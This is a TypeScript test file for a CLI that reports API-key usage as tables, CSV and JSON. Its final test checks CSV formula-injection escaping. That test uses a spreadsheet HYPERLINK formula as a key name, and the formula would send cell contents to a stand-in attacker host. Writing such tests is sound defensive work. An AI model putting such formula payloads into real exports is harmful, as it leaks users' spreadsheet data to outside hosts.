import { beforeAll, expect, test } from "bun:test";
import { encodeCursor } from "../../src/domain/cursor.ts";
import type { KeyCounts } from "../../src/domain/usage-history.ts";
import { cleanUpAfterAll, failure, InProcessCli } from "./cli.ts";
import { createKey, withStores } from "./keys.ts";

cleanUpAfterAll();

const HOUR_MS = 3_600_000;
const NOON = Date.parse("2026-11-15T12:00:00Z");
const counts = (keyId: number, change: Partial<KeyCounts> = {}): KeyCounts => ({
  keyId,
  admitted: 1_200,
  limited: 30,
  banned: 4,
  errors: 5,
  lastUsedAt: NOON,
  byOperation: [{ operation: "listPets", admitted: 1_195, errors: 0 }],
  ...change,
});

/** Adds counts as a server does: [hours ago, counts]. */
async function addUsage(
  cli: InProcessCli,
  ...batches: [hoursAgo: number, ...keys: KeyCounts[]][]
): Promise<void> {
  for (const [hoursAgo, ...keys] of batches) {
    const hour = NOON - hoursAgo * HOUR_MS;
    const batch = { writer: crypto.randomUUID(), sequence: 1, hour, keys };
    await withStores(cli, ({ usageHistory }) => usageHistory.addUsage(batch));
  }
}

/** Has keys 1 and 2, the second with a name that CSV has to quote. */
const cli = new InProcessCli();
beforeAll(async () => {
  await createKey(cli, "--name", "app", "--plan", "free");
  await createKey(cli, "--name", 'the "big", one', "--plan", "pro");
  const small = { admitted: 2, limited: 0, banned: 0, errors: 2, byOperation: [] };
  await addUsage(cli, [0, counts(1, small), counts(2)], [25, counts(2, small)], [31 * 24, counts(1)]);
});

test("all keys: a table of sums over the last 30 days, most requests first", async () => {
  expect(await cli.out("usage")).toBe(
    `ID     NAME            PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
2      the "big", one  pro      1,202       30       4       7  2026-11-15T12:00:00Z
1      app             free         2        0       0       2  2026-11-15T12:00:00Z
Total                           1,204       30       4       9
`,
  );
  const big = { keyId: 2, name: 'the "big", one', plan: "pro" };
  const app = { keyId: 1, name: "app", plan: "free" };
  const lastUsedAt = "2026-11-15T12:00:00.000Z";
  expect(await cli.json<unknown>("usage --since 24h")).toEqual([
    { ...big, admitted: 1_200, limited: 30, banned: 4, errors: 5, lastUsedAt },
    { ...app, admitted: 2, limited: 0, banned: 0, errors: 2, lastUsedAt },
  ]);
  expect(await cli.out("usage --by key --csv")).toBe(
    `keyId,name,plan,admitted,limited,banned,errors,lastUsedAt
2,"the ""big"", one",pro,1202,30,4,7,2026-11-15T12:00:00.000Z
1,app,free,2,0,0,2,2026-11-15T12:00:00.000Z
`,
  );
});

test("a key that moves to the next page while the pages are read is printed once", async () => {
  const totals = (keyId: number, admitted: number) => {
    const { limited, banned, errors } = counts(keyId);
    return { keyId, name: "app", plan: "free", admitted, limited, banned, errors, lastUsedAt: null };
  };
  const [since, until] = ["2026-10-17T00:00:00.000Z", "2026-11-16T00:00:00.000Z"];
  const server = Bun.serve({
    port: 0,
    fetch: ({ url }) =>
      Response.json(
        new URL(url).searchParams.has("cursor")
          ? { since, until, items: [totals(1, 90), totals(3, 70)], nextCursor: null }
          : { since, until, items: [totals(1, 90), totals(2, 80)], nextCursor: encodeCursor("usage", 2n) },
      ),
  });
  const variables = { PETSTORE_TOKEN: `pstok_${"a".repeat(32)}` };
  const { out, err } = await cli.run(`usage --server ${server.url.origin} --json`, variables);
  await server.stop(true);
  expect(err).toBe("");
  expect(JSON.parse(out)).toEqual([totals(1, 90), totals(2, 80), totals(3, 70)]);
});

test("one key: a table by day, and one by operation; all keys by day: the sums over the keys", async () => {
  expect(await cli.out("usage 2")).toBe(
    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
2026-11-14         2        0       0       2
2026-11-15     1,200       30       4       5
Total          1,202       30       4       7

OPERATION  ADMITTED  LIMITED  BANNED  ERRORS
listPets      1,195        0       0       0
none              7       30       4       7
`,
  );
  expect(await cli.out("usage 2 --by hour")).toStartWith(
    `HOUR               ADMITTED  LIMITED  BANNED  ERRORS
2026-11-15T12:00Z     1,200       30       4       5
Total `,
  );
  expect(await cli.out("usage 1 --by key --since 60d")).toContain("\n1      app   free     1,202 ");
  expect(await cli.out("usage --by day --since 2026-11-15")).toStartWith(
    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
2026-11-15     1,202       30       4       7
`,
  );
});

test("--operation: the keys that still use an operation, and when", async () => {
  const cli = new InProcessCli();
  for (const name of ["new", "old", "older"]) await createKey(cli, "--name", name, "--plan", "free");
  const getPet = (admitted: number, errors = 0) => ({
    byOperation: [
      { operation: "listPets", admitted: 7, errors: 0 },
      { operation: "getPet", admitted, errors },
    ] as const,
  });
  await addUsage(
    cli,
    [0, counts(1), counts(2, getPet(3)), counts(3, getPet(4, 1))],
    [25, counts(3, getPet(2))],
    [31 * 24, counts(1, getPet(9))],
  );
  expect(await cli.out("usage --operation getPet")).toBe(
    `ID     NAME   PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
3      older  free         6        0       0       1  2026-11-15T12:00:00Z
2      old    free         3        0       0       0  2026-11-15T12:00:00Z
Total                      9        0       0       1
`,
  );
  expect(await cli.out("usage 3 --operation getPet")).toBe(
    `DAY         ADMITTED  LIMITED  BANNED  ERRORS
2026-11-14         2        0       0       0
2026-11-15         4        0       0       1
Total              6        0       0       1

OPERATION  ADMITTED  LIMITED  BANNED  ERRORS
getPet            6        0       0       1
`,
  );
  expect(await cli.out("usage --operation getPet --csv --since 2026-11-15")).toBe(
    `keyId,name,start,operation,admitted,limited,banned,errors
2,old,2026-11-15T00:00:00.000Z,getPet,3,0,0,0
3,older,2026-11-15T00:00:00.000Z,getPet,4,0,0,1
`,
  );
  const rows = await cli.json<{ keyId: number; admitted: number }[]>("usage --by day --operation getPet");
  expect(rows.map(({ keyId, admitted }) => [keyId, admitted])).toEqual([
    [2, 3],
    [3, 2],
    [3, 4],
  ]);
  expect(await cli.out("usage --operation placeOrder")).toStartWith("There were no requests from ");
  expect((await cli.run("usage --operation getpets")).code).toBe(2);
});

test("--csv: one row per key, day and operation; --json: one object per interval and operation", async () => {
  expect(await cli.out("usage --csv --since 2026-11-14 --until 2026-11-15")).toBe(
    `keyId,name,start,operation,admitted,limited,banned,errors
1,app,2026-11-15T00:00:00.000Z,none,2,0,0,2
2,"the ""big"", one",2026-11-14T00:00:00.000Z,none,2,0,0,2
2,"the ""big"", one",2026-11-15T00:00:00.000Z,listPets,1195,0,0,0
2,"the ""big"", one",2026-11-15T00:00:00.000Z,none,5,30,4,5
`,
  );
  const key = { keyId: 2, name: 'the "big", one' };
  const yesterday = { ...key, start: "2026-11-14T11:00:00.000Z" };
  const today = { ...key, start: "2026-11-15T12:00:00.000Z" };
  expect(await cli.json<unknown>("usage 2 --by hour --since 26h")).toEqual([
    { ...yesterday, operation: "none", admitted: 2, limited: 0, banned: 0, errors: 2 },
    { ...today, operation: "listPets", admitted: 1_195, limited: 0, banned: 0, errors: 0 },
    { ...today, operation: "none", admitted: 5, limited: 30, banned: 4, errors: 5 },
  ]);
});

test("a sum over two days is exact to the hour, and a longer one to the day", async () => {
  const cli = new InProcessCli();
  await createKey(cli, "--name", "app", "--plan", "free");
  await addUsage(cli, [48, counts(1)], [50, counts(1)]);
  const admitted = async (since: string) =>
    (await cli.json<{ admitted: number }[]>(`usage --since ${since}`)).map((each) => each.admitted);
  expect([await admitted("48h"), await admitted("49h")]).toEqual([[1_200], [2_400]]);
});

test.each(["usage 77", "usage 77 --by key --csv"])("%s: there is no such key", async (line) => {
  const err = expect.stringMatching(
    /^Key 77 does not exist\. See petstore keys list; this is production \(data: /,
  );
  expect(await cli.run(line)).toEqual(failure(err));
});

test("--csv: a name that a spreadsheet would calculate has an apostrophe before it", async () => {
  const cli = new InProcessCli();
  await createKey(cli, "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")', "--plan", "free");
  for (const name of ["+1", "@SUM(1)", "1=1"]) await createKey(cli, "--name", name, "--plan", "free");
  await createKey(cli, "--name=-1", "--plan", "free");
  await addUsage(cli, [0, ...[1, 2, 3, 4, 5].map((id) => counts(id))]);
  const { out } = await cli.run("usage --by key --csv");
  expect(out).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",free,`);
  expect(out).toContain("2,'+1,free,");
  expect(out).toContain("3,'@SUM(1),free,");
  expect(out).toContain("4,1=1,free,");
  expect(out).toContain("5,'-1,free,");
});
